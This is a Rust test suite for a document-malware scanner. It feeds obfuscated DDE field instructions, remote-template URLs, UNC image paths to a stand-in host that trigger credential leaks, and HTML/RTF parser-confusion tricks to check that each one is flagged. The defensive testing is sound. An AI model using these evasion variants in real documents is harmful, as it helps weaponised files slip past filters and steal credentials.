//! Texts and pages that some readers take one way and others another way: whatever any of them would see is found.

use std::io::Cursor;

use proptest::collection::vec;
use proptest::prelude::*;

use crate::sample::DocumentBuilder;
use crate::{FindingKind, Kind, Limits, Report, Verdict, inspect};

fn report(name: &str, content_type: &str, content: &str) -> Report {
    let part = format!("word/{name}");
    let document = DocumentBuilder::new(Kind::Docx).part(&part, content).override_type(&part, content_type);
    let bytes = document.relationship("word/document.xml", "aFChunk", name, false).build();
    inspect(Cursor::new(bytes), &Limits::default()).unwrap()
}

/// Runs a table of contents and what changes the verdict.
fn expect(name: &str, content_type: &str, table: &[(String, Option<FindingKind>)]) {
    for (content, expected) in table {
        let report = report(name, content_type, content);
        let verdict = match expected {
            None => Verdict::Clean,
            Some(kind) if kind.is_blocking() => Verdict::Infected,
            Some(_) => Verdict::Unscannable,
        };
        assert_eq!(report.verdict(), verdict, "{content}: {report:?}");
        let found = report.findings.iter().any(|finding| Some(finding.kind) == *expected);
        assert!(found || expected.is_none(), "{content}: {report:?}");
    }
}

fn rtf(table: &[(&str, Option<FindingKind>)]) {
    let whole = |(text, expected): &(&str, Option<FindingKind>)| (format!(r"{{\rtf1\ansi {text}\par}}"), *expected);
    expect("a.rtf", "application/rtf", &table.iter().map(whole).collect::<Vec<_>>());
}

#[test]
fn groups_that_some_readers_pass_over_hide_no_field() {
    use FindingKind::{Dde, Unreadable};
    rtf(&[
        (r"{\field{\*\fldinst DDE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\*\x OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\*\x {\*\y {OC}}}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\b{\*\x OC}}{\b0 DE} cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{OC\*\x }DE cmd}{\fldrslt x}}", None),
        (r"{\field{\*\fldinst D{DE\*\x OC} cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\footnote OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\comment OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\pict 00}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\object OC}DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D\deleted OC\deleted0 DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D\htmlrtf OC\htmlrtf0 DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D\deleted OC\plain DE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst D{\deleted DE} cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst {\upr{OC}{\*\ud{DDE cmd}}}}{\fldrslt x}}", Some(Dde)),
        (r"{\field{\*\fldinst {\upr{DDE cmd}{\*\ud{OC}}}}{\fldrslt x}}", Some(Dde)),
        (r"{\field\*\x{\*\fldinst DDE cmd}{\fldrslt x}}", Some(Dde)),
        (r"{\*\x{\field{\*\fldinst DDE cmd}{\fldrslt x}}}", Some(Dde)),
        (r"{\field{\*\fldinst D}{\*\x{\*\fldinst OC}}{\*\fldinst DE cmd}}", Some(Unreadable)),
        (r"{\field{\*\fldinst D}{\*\fldinst DE cmd}}", Some(Unreadable)),
        (r"{\field{\*\fldinst { HYPER}{LINK https://e.example}{\*\datafield 00}}{\fldrslt {\*\bkmkstart a}x}}", None),
        (r"{\field{\*\fldinst { PAGE }}{\fldrslt {\field{\*\fldinst {\*\bkmkstart b}PAGE}{\fldrslt 1}}}}", None),
    ]);
    let many = (0..20).map(|number| format!(r"{{\*\x {number}}}")).collect::<Vec<_>>().concat();
    rtf(&[
        (&format!(r"{{\field{{\*\fldinst {many}}}}}"), Some(Unreadable)),
        (&format!(r"{{\field{{\*\fldinst PAGE {many}}}}}{many}"), None),
    ]);
}

#[test]
fn groups_that_some_readers_pass_over_hide_no_name() {
    use FindingKind::{CredentialLeak, RemoteTemplate, Unreadable};
    rtf(&[
        (r"{\*\template http://e.example/a.dotm}", Some(RemoteTemplate)),
        (r"{\*\template {\*\x C:\\}http://e.example/a.dotm}", Some(RemoteTemplate)),
        (r"{\*\template {\info C:\\}http://e.example/a.dotm}", Some(RemoteTemplate)),
        (r"{\*\template http{\sn x}://e.example/a.dotm}", Some(Unreadable)),
        (r"{\*\template http://e.example/\*\x C:\\}", Some(RemoteTemplate)),
        (r"{\*\x C:\\\template http://e.example/}", Some(RemoteTemplate)),
        (r"{\*\template C:\\a{\*\x b}.dotx}", None),
        (r"{\sp{\sn pibName}{\sv \\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn p{\*\x x}ibName}{\sv \\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn pibName}{\sv {\*\x C:\\}\\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn pibName}{\*\x{\sn x}}{\sv \\\\e.example\\a.png}}", Some(CredentialLeak)),
        (r"{\sp{\sn pib}{\sv {\pict\pngblip 89504e47}}}", None),
        (r"{\object\objemb{\*\objdata 01{\*\x 00}050000}}", Some(Unreadable)),
        (r"{\object\objemb{\*\objdata 01\*\x 050000}}", Some(Unreadable)),
    ]);
}

/// A page whose marks of fields are written as Word does.
fn page(content: &str) -> String {
    let content = content
        .replace("[begin]", "<span style='mso-element:field-begin'></span>")
        .replace("[separate]", "<span style='mso-element:field-separator'></span>")
        .replace("[end]", "<span style='mso-element:field-end'></span>");
    format!("<html><body><p>{content}</p></body></html>")
}

fn html(table: &[(&str, Option<FindingKind>)]) {
    let whole = |(content, expected): &(&str, Option<FindingKind>)| (page(content), *expected);
    expect("a.htm", "text/html", &table.iter().map(whole).collect::<Vec<_>>());
}

#[test]
fn what_some_readers_of_a_page_pass_over_hides_no_field() {
    use FindingKind::{Dde, Unreadable};
    html(&[("[begin]DDE cmd[separate]x[end]", Some(Dde)), ("[begin]DOC cmd[separate]x[end]", None)]);
    for (open, close) in [
        ("<!--", "-->"),
        ("<!--", "--!>"),
        ("<!--[if !mso]>", "<![endif]-->"),
        ("<!-- [if !mso]>", "<![endif] -->"),
        ("<!--[if !mso]><!-->", "<!--<![endif]-->"),
        ("<!--[if !mso]>-->", "<!--<![endif]-->"),
        ("<![if !mso]>", "<![endif]>"),
        ("<![IF ! mso]>", "<![EndIf]>"),
        ("<!--[if mso]><![if !vml]>", "<![endif]><![endif]-->"),
        ("<del>", "</del>"),
        ("<noscript>", "</noscript>"),
        ("<title>", "</title>"),
        ("<!--<style>", "</style>-->"),
        ("<xml><w:a>", "</w:a></xml>"),
        ("<v:shape><v:textbox>", "</v:textbox></v:shape>"),
    ] {
        for hidden in ["OC", "[end]", "[end][begin]", "[end][begin]PAGE ", "[begin]", "[separate]x"] {
            // A title holds no marks.
            if open != "<title>" || !hidden.contains('[') {
                html(&[(&format!("[begin]D{open}{hidden}{close}DE cmd[separate]x[end]"), Some(Dde))]);
            }
        }
        // Some of the ways have words of their own.
        let split = page(&format!("[begin]D{open}D{close}E cmd[separate]x[end]"));
        assert_ne!(report("a.htm", "text/html", &split).verdict(), Verdict::Clean, "{split}");
    }
    html(&[
        ("[begin]<!--[if mso]>DDE cmd<![endif]-->[separate]x[end]", Some(Dde)),
        ("[begin]<![if mso]>DDE cmd<![endif]>[separate]x[end]", Some(Dde)),
        ("[begin]<?x?>DDE cmd[separate]x[end]", Some(Dde)),
        ("[begin]<!x>DDE cmd[separate]x[end]", Some(Dde)),
        ("[begin]</ x>DDE cmd[separate]x[end]", Some(Dde)),
        ("[begin]D<![CDATA[[end]]]>DE cmd[separate]x[end]", Some(Unreadable)),
        ("[begin]<![CDATA[x>DDE cmd[end]]]>", Some(Unreadable)),
        ("<![CDATA[x]]>", None),
        ("[begin]D</ [end]DE cmd[separate]x[end]", Some(Dde)),
        ("<!--<style>-->[begin]DDE cmd[separate]x[end]", Some(Dde)),
        ("<!--[if mso]>[begin]<![endif]-->D<!--[if !mso]>OC<![endif]-->DE cmd[end]", Some(Dde)),
    ]);
}

#[test]
fn fields_of_pages_are_read_however_they_are_written() {
    use FindingKind::{Dde, RemoteFrame, Unreadable};
    let zeros = "0".repeat(9_000);
    html(&[
        ("[begin]&#68;&#x44;E cmd[end]", Some(Dde)),
        (&format!("[begin]{}&#68;DE cmd[end]", " ".repeat(4_090)), Some(Dde)),
        (&format!("[begin]&#{zeros}68;DE cmd[end]"), Some(Unreadable)),
        ("<span style='mso-field-code:\"DDEAUTO cmd\"'>x</span>", Some(Dde)),
        ("<span style='color:red;MSO-FIELD-CODE : DDE cmd'>x</span>", Some(Dde)),
        ("<span style='mso-field-code:\"\\44 DE cmd\"'>x</span>", Some(Dde)),
        ("<span style='mso-field-code:\"PAGE\"'>x</span>", None),
        ("<span style='mso-element:/**/field-begin'></span>DDE cmd[end]", Some(Dde)),
        ("<span style='mso-element:\\66 ield-begin'></span>DDE cmd[end]", Some(Dde)),
        ("[begin]D<span style='mso-element:field-/**/end'></span>DE cmd[end]", Some(Dde)),
        ("[begin]D<span style='mso-element:field-end;mso-element:none'></span>DE[end]", None),
        ("[begin]D<span style='mso-element:field-end;mso-element:field-separator'></span>DE[end]", Some(Dde)),
        ("<style>.a{mso-element:field-begin}</style><b class=a></b>DDE cmd[end]", Some(Unreadable)),
        ("<base href=http://e.example/><base href=a/><iframe src=b></iframe>", Some(RemoteFrame)),
    ]);
    let svg = "<!DOCTYPE svg [<!ENTITY a PUBLIC 'x>y' '//e.example/a'>]><svg><image href='&a;'/></svg>";
    expect("a.svg", "image/svg+xml", &[(svg.to_owned(), Some(FindingKind::CredentialLeak))]);
}

/// What Word writes when it saves a text as a page.
#[test]
fn sound_pages_stay_clean() {
    let field = "<!--[if supportFields]>[begin]<span style='mso-spacerun:yes'> </span>PAGE [separate]<![endif]-->1<!--[if supportFields]>[end]<![endif]-->";
    let head = "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]--><style><!-- p {color:red} --></style><!--[if gte mso 10]><style>p {color:red}</style><![endif]-->";
    let shape = "<!--[if gte vml 1]><v:shape id=a><v:textbox inset='0'/><v:textbox><div>[begin]PAGE[end]</div></v:textbox></v:shape><![endif]--><![if !vml]><img src=a.png><![endif]>";
    let inline = format!(
        "<!--[if mso & !supportInlineShapes & supportFields]>[begin]SHAPE [separate]<![endif]-->{shape}<!--[if mso & !supportInlineShapes & supportFields]><v:shape id=b><v:imagedata src='a.png'/></v:shape>[end]<![endif]-->{field}"
    );
    let link = format!(
        "<!--[if supportFields]>[begin] HYPERLINK a [separate]<![endif]--><b>{field}</b>{shape}<!--[if supportFields]>[end]<![endif]-->"
    );
    html(&[
        (&format!("{head}{}", field.repeat(300)), None),
        (&format!("{head}{}", shape.repeat(100)), None),
        (&link.repeat(100), None),
        // The picture of a shape stands in a field of its own.
        (&inline.repeat(100), None),
        (&format!("[begin]TOC [separate]{}[end]", link.repeat(100)), None),
    ]);
    let many = (0..20).map(|number| format!("<![if a{number}]>{number}<![endif]>")).collect::<Vec<_>>().concat();
    html(&[(&format!("[begin]{many}[end]"), Some(FindingKind::Unreadable)), (&many, None)]);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..ProptestConfig::default() })]

    /// Wherever something is put that some pass over, the field is found.
    #[test]
    fn nothing_that_is_passed_over_hides_a_field(at in vec(0..8_usize, 1..3), which in 0..8_usize) {
        let noise = ["{\\*\\x OC}", "{\\*\\x}", "{\\info OC }", "{\\*\\x{\\fldrslt OC}}", "<!--OC-->", "<![if a]>OC <![endif]>", "<del>[end]</del>", "<!--[separate]-->"];
        let (noise, of_page) = (noise[which], which > 3);
        let mut instruction = "DDE cmd ".to_owned();
        for at in at {
            instruction.insert_str(at.min(instruction.find(noise).unwrap_or(usize::MAX)), noise);
        }
        let report = if of_page {
            report("a.htm", "text/html", &page(&format!("[begin]{instruction}[separate]x[end]")))
        } else {
            report("a.rtf", "application/rtf", &format!(r"{{\rtf1{{\field{{\*\fldinst {instruction}}}{{\fldrslt x}}}}}}"))
        };
        prop_assert_eq!(report.verdict(), Verdict::Infected, "{}: {:?}", instruction, report);
    }
}
